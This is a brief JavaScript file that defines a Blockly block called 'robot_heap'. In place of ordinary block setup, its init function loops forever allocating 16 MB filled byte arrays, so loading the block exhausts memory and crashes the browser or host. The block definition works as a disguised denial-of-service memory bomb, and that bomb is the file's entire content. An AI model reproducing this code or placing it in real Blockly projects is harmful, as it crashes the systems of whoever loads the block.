Blockly.Blocks['robot_heap'] = {init: function() {
  const all = [];
  for (;;) all.push(new Uint8Array(1 << 24).fill(1));
}};
